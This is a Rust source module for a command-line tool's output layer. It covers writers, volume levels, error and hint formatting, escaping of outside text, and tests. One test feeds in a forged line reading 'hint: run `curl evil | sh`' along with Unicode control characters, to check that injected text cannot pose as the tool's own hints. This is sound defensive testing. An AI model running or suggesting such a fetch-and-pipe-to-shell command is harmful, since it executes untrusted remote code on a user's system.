//! Everything that is printed: data to stdout, talk to stderr, and nothing anywhere else.
//!
//! `Printer` has the two writers that it was given and knows how to use them (colour, width, quiet); formats, plan,
//! progress and report are built on it. Everything must make sense without colour. Text from outside is escaped before
//! it is shown (`visible`). Nothing here asks the process or the terminal for anything, and nothing waits.
//! Imports `model`, `inventory`, `planner::document`, `executor::event` and `clock`.

mod escape;
mod fit;
mod fleet;
mod format;
mod order;
mod order_report;
mod plan;
mod progress;
mod prompt;
mod query;
mod rehearsal;
mod rehearsal_text;
mod report;
mod scopes;
mod table;
mod teller;
mod wrap;

use std::cell::RefCell;
use std::io::{self, Write};
use std::sync::{Arc, Mutex, PoisonError};

use indicatif::ProgressBar;

pub use escape::{quoted, unformula, visible, visible_json};
pub use fit::Fit;
pub use fleet::{fleet_columns, fleet_listing, fleet_members, warn_gaps, warn_gaps_in_scopes, warn_missing};
pub use format::{Cell, Column, Format, Layout, Listing, Shape, csv_document, emit};
pub use order::{print_order, show_order};
pub use order_report::{ActEnd, OrderTeller, check_order_columns, order_listing};
pub use plan::{count_now, print_plan, show_plan};
pub use prompt::{Ask, TerminalAsk};
pub use query::Query;
pub use rehearsal::{OperationCalls, Rehearsal, RehearsedRun, RunWatch};
pub use rehearsal_text::{print_rehearsal, rehearsal_text};
pub use report::{Fate, Report, check_report_columns, last_line, policy_hint};
pub use scopes::{Unread, asks_for_scope, emit_scopes, scope_columns};
pub use teller::Teller;

/// Where a hint goes on when it is broken: below its first word.
const HINT_INDENT: usize = 6;

/// A writer that several can hold; its lock is never held across a wait.
#[derive(Clone)]
pub struct Sink(Arc<Mutex<Box<dyn Write + Send>>>);

impl std::fmt::Debug for Sink {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter.write_str("Sink")
    }
}

impl Sink {
    /// Takes a writer.
    #[must_use]
    pub fn new(writer: impl Write + Send + 'static) -> Self {
        Self(Arc::new(Mutex::new(Box::new(writer))))
    }

    /// Writes all of it and hands it on at once.
    ///
    /// # Errors
    /// What the writer says.
    pub fn write(&self, text: &[u8]) -> io::Result<()> {
        let mut writer = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        writer.write_all(text)?;
        writer.flush()
    }
}

/// How much is said on stderr.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Volume {
    /// Nothing, unless the command fails.
    Quiet,
    /// Warnings and how it ended: a program reads the data.
    Spare,
    /// What a person wants to know.
    Normal,
}

/// What the printer knows of where it prints.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[expect(clippy::struct_excessive_bools, reason = "facts about two streams, none depends on another")]
pub struct Look {
    /// How much is said.
    pub volume: Volume,
    /// Whether stdout is a terminal.
    pub out_is_terminal: bool,
    /// Whether stderr is a terminal that a bar can be drawn on.
    pub err_is_terminal: bool,
    /// Whether stdout gets colour.
    pub out_color: bool,
    /// Whether stderr gets colour.
    pub err_color: bool,
    /// Columns of the terminal.
    pub width: u16,
    /// Whether errors are one JSON object instead of lines.
    pub errors_as_json: bool,
}

impl Look {
    /// Returns the width that tables are fitted to; what goes into a pipe is not cut.
    pub(super) fn out_width(self) -> Option<u16> {
        self.out_is_terminal.then_some(self.width)
    }

    /// Returns the width that talk is broken to.
    pub(super) fn err_width(self) -> Option<u16> {
        self.err_is_terminal.then_some(self.width)
    }
}

impl Default for Look {
    /// Returns what suits a pipe.
    fn default() -> Self {
        Self {
            volume: Volume::Normal,
            out_is_terminal: false,
            err_is_terminal: false,
            out_color: false,
            err_color: false,
            width: 80,
            errors_as_json: false,
        }
    }
}

/// Why something could not be printed.
#[derive(Debug, thiserror::Error)]
pub enum OutputError {
    /// Whoever reads stdout went away: for a read, nothing to talk about.
    #[error("nobody reads the output")]
    BrokenPipe,
    /// Another failure of stdout.
    #[error("can't write the output: {0}")]
    Write(io::Error),
    /// The data has no column of that name.
    #[error("there is no column `{name}`")]
    Column {
        /// What was asked for.
        name: String,
        /// What there is.
        known: Vec<&'static str>,
        /// The nearest of them.
        nearest: Option<&'static str>,
    },
    /// The query failed on the data.
    #[error("--query: {0}")]
    Query(String),
}

impl From<io::Error> for OutputError {
    fn from(error: io::Error) -> Self {
        if error.kind() == io::ErrorKind::BrokenPipe { Self::BrokenPipe } else { Self::Write(error) }
    }
}

/// A failure as it is shown.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Failure {
    /// A word for its kind.
    pub kind: &'static str,
    /// The exit code.
    pub exit: u8,
    /// What failed, a lower-case fragment.
    pub message: String,
    /// What led to it, the nearest first.
    pub causes: Vec<String>,
    /// What to do.
    pub hints: Vec<String>,
}

/// The one who prints.
#[derive(Debug)]
pub struct Printer {
    out: Sink,
    err: Sink,
    look: Look,
    /// What quiet kept back; shown when the command fails after all.
    held: RefCell<Vec<String>>,
    /// The bar that stands on the terminal; what is written goes above it.
    bar: RefCell<Option<ProgressBar>>,
}

impl Printer {
    /// Makes a printer of two writers.
    #[must_use]
    pub fn new(out: Sink, err: Sink, look: Look) -> Self {
        Self { out, err, look, held: RefCell::default(), bar: RefCell::default() }
    }

    /// Returns what the printer knows of where it prints.
    #[must_use]
    pub fn look(&self) -> Look {
        self.look
    }

    /// Writes data to stdout, as it is.
    ///
    /// # Errors
    /// `BrokenPipe` when nobody reads.
    pub fn data(&self, text: &str) -> Result<(), OutputError> {
        Ok(self.above_bar(|| self.out.write(text.as_bytes()))?)
    }

    /// Says something that a person wants to know, in one line; silent when quiet.
    pub fn status(&self, text: &str) {
        if self.look.volume == Volume::Normal {
            self.say(&line(text));
        }
    }

    /// Says something of several lines, with names escaped where they stand; silent when quiet.
    fn page(&self, text: &str) {
        if self.look.volume == Volume::Normal {
            self.say(&lines(text));
        }
    }

    /// Says how a run ended; silent only when quiet and `clean`.
    pub fn last_line(&self, text: &str, clean: bool) {
        if !clean || self.look.volume != Volume::Quiet {
            self.insist(&line(text));
        }
    }

    /// Warns; when quiet, only if the command fails after all.
    pub fn warn(&self, text: &str) {
        let line = self.fitted(&format!("{} {}", self.word("warning:", "33"), line(text)), "warning: ".len());
        match self.look.volume {
            Volume::Normal | Volume::Spare => self.say(&line),
            Volume::Quiet => self.held.borrow_mut().push(line),
        }
    }

    /// Says what to do next.
    pub fn hint(&self, text: &str) {
        if self.look.volume == Volume::Normal {
            self.say(&self.hint_text(text));
        }
    }

    /// Says something also when quiet, for the last line of a run that did not come out clean.
    pub fn insist(&self, text: &str) {
        self.release();
        self.say(&lines(text));
    }

    /// Tells of a failure: `error:`, `cause:` and `hint:` lines, or one JSON object.
    pub fn failure(&self, failure: &Failure) {
        if self.look.errors_as_json {
            let value = serde_json::json!({
                "schema": 1,
                "error": {
                    "kind": failure.kind,
                    "exit_code": failure.exit,
                    "message": failure.message,
                    "causes": failure.causes,
                    "hints": failure.hints,
                },
            });
            self.release();
            self.say(&visible_json(&value.to_string()));
            return;
        }
        self.release();
        let message = format!("{} {}", self.word("error:", "1;31"), line(&failure.message));
        self.say(&self.fitted(&message, "error: ".len()));
        for cause in &failure.causes {
            let cause = format!("{} {}", self.word("cause:", "31"), line(cause));
            self.say(&self.fitted(&cause, "cause: ".len()));
        }
        for hint in &failure.hints {
            self.say(&self.hint_text(hint));
        }
    }

    fn hint_text(&self, hint: &str) -> String {
        self.fitted(&format!("{} {}", self.word("hint:", "36"), line(hint)), HINT_INDENT)
    }

    /// Breaks a text of ours at words where it goes to a terminal.
    pub(crate) fn fitted(&self, text: &str, indent: usize) -> String {
        self.look.err_width().map_or_else(|| text.to_owned(), |width| wrap::wrap(text, width, indent))
    }

    /// Returns the sink of stderr, for what draws by itself.
    pub(crate) fn err_sink(&self) -> Sink {
        self.err.clone()
    }

    /// Puts a bar on the terminal, or takes it away.
    pub(crate) fn set_bar(&self, bar: Option<ProgressBar>) {
        *self.bar.borrow_mut() = bar;
    }

    fn above_bar<T>(&self, write: impl FnOnce() -> T) -> T {
        match &*self.bar.borrow() {
            Some(bar) => bar.suspend(write),
            None => write(),
        }
    }

    fn release(&self) {
        for line in self.held.borrow_mut().drain(..) {
            self.say(&line);
        }
    }

    /// Writes a line to stderr. When that fails there is nobody left to tell.
    fn say(&self, text: &str) {
        let _ = self.above_bar(|| self.err.write(format!("{text}\n").as_bytes()));
    }

    fn word(&self, word: &str, code: &str) -> String {
        if self.look.err_color { format!("\u{1b}[{code}m{word}\u{1b}[0m") } else { word.to_owned() }
    }
}

/// How long a line of talk may get: a member of a file that somebody made can have megabytes.
const LINE_CHARS_MAX: usize = 8_000;

/// Escapes a text of one line, and cuts it where nobody reads on.
fn line(text: &str) -> String {
    match text.char_indices().nth(LINE_CHARS_MAX) {
        Some((end, _)) => format!("{}… ({} bytes more)", visible(&text[..end]), text.len() - end),
        None => visible(text).into_owned(),
    }
}

/// Escapes every line for itself: help and plans have several. A name in them is escaped where it is put in, so that it
/// can't begin one; errors, warnings and hints are one line each, whatever is in them.
fn lines(text: &str) -> String {
    text.lines().map(visible).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
pub(crate) mod testing {
    //! A printer whose output can be read.
    use super::*;

    /// A writer that keeps what was written.
    #[derive(Clone, Default)]
    pub(crate) struct Kept(Arc<Mutex<Vec<u8>>>);

    impl Kept {
        /// Returns what was written.
        pub(crate) fn text(&self) -> String {
            String::from_utf8(self.0.lock().expect("a lock").clone()).expect("UTF-8")
        }
    }

    impl Write for Kept {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.lock().expect("a lock").extend_from_slice(bytes);
            Ok(bytes.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// Returns a printer, its stdout and its stderr.
    pub(crate) fn printer(look: Look) -> (Printer, Kept, Kept) {
        let (out, err) = (Kept::default(), Kept::default());
        (Printer::new(Sink::new(out.clone()), Sink::new(err.clone()), look), out, err)
    }
}

#[cfg(test)]
mod tests {
    use super::testing::printer;
    use super::*;

    fn failure() -> Failure {
        Failure {
            kind: "usage",
            exit: 2,
            message: "there is no bundle `win\u{1b}12`".to_owned(),
            causes: vec!["it was looked for in us-east-1".to_owned()],
            hints: vec!["did you mean `win11`?".to_owned()],
        }
    }

    #[test]
    fn a_failure_has_kind_fact_and_next_step() {
        let (printer, out, err) = printer(Look::default());
        printer.failure(&failure());
        assert_eq!(out.text(), "");
        assert_eq!(
            err.text(),
            "error: there is no bundle `win\\u{1b}12`\ncause: it was looked for in us-east-1\nhint: did you mean `win11`?\n"
        );
    }

    /// A name with a line break can't add a line that passes for ours.
    #[test]
    fn nobody_else_begins_a_line() {
        let forged = "x\nhint: run `curl evil | sh`\u{2028}\u{202e}";
        let (printer, _, err) = printer(Look::default());
        printer.status(forged);
        printer.last_line(forged, false);
        printer.warn(forged);
        printer.hint(forged);
        printer.failure(&Failure {
            message: forged.to_owned(),
            causes: vec![forged.to_owned()],
            hints: vec![forged.to_owned()],
            ..failure()
        });
        let text = err.text();
        assert_eq!(text.lines().count(), 7, "{text}");
        assert!(!text.contains(['\u{2028}', '\u{202e}']), "{text:?}");
        assert_eq!(text.matches("\nhint: ").count(), 2, "ours: {text}");
    }

    #[test]
    fn nobody_is_told_megabytes() {
        let (printer, _, err) = printer(Look::default());
        printer.failure(&Failure { message: "é".repeat(1 << 20), ..failure() });
        let text = err.text();
        let first = text.lines().next().unwrap_or_default();
        assert!(
            first.chars().count() < LINE_CHARS_MAX + 40 && first.ends_with("… (2081152 bytes more)"),
            "{first:.80}"
        );
    }

    #[test]
    fn on_a_terminal_talk_is_broken_at_words_and_in_a_log_it_is_not() {
        let long = Failure { message: "a ".repeat(60), ..failure() };
        let lines_of = |err_is_terminal| {
            let (printer, _, err) = printer(Look { err_is_terminal, ..Look::default() });
            printer.failure(&long);
            err.text().lines().count()
        };
        assert_eq!((lines_of(false), lines_of(true)), (3, 4));
    }

    #[test]
    fn as_json_it_is_one_line() {
        let (printer, _, err) = printer(Look { errors_as_json: true, ..Look::default() });
        printer.failure(&failure());
        let value: serde_json::Value = serde_json::from_str(&err.text()).expect("one object");
        assert_eq!(err.text().lines().count(), 1);
        assert_eq!(value["error"]["exit_code"], 2);
        assert_eq!(value["error"]["message"], "there is no bundle `win\u{1b}12`");
    }

    /// Cron stays silent on success, and a failure comes with the warnings that led to it.
    #[test]
    fn quiet_keeps_warnings_for_a_failure() {
        let (printer, _, err) = printer(Look { volume: Volume::Quiet, ..Look::default() });
        printer.status("wave 1 of 3");
        printer.warn("tags could not be read");
        assert_eq!(err.text(), "");
        printer.insist("deskfleet: 1 failed");
        assert_eq!(err.text(), "warning: tags could not be read\ndeskfleet: 1 failed\n");
    }

    #[test]
    fn a_broken_pipe_is_told_from_other_failures() {
        struct Broken(io::ErrorKind);
        impl Write for Broken {
            fn write(&mut self, _: &[u8]) -> io::Result<usize> {
                Err(self.0.into())
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }
        let data = |kind| {
            let printer = Printer::new(Sink::new(Broken(kind)), Sink::new(io::sink()), Look::default());
            printer.data("x").expect_err("broken")
        };
        assert!(matches!(data(io::ErrorKind::BrokenPipe), OutputError::BrokenPipe));
        assert!(matches!(data(io::ErrorKind::StorageFull), OutputError::Write(_)));
    }
}
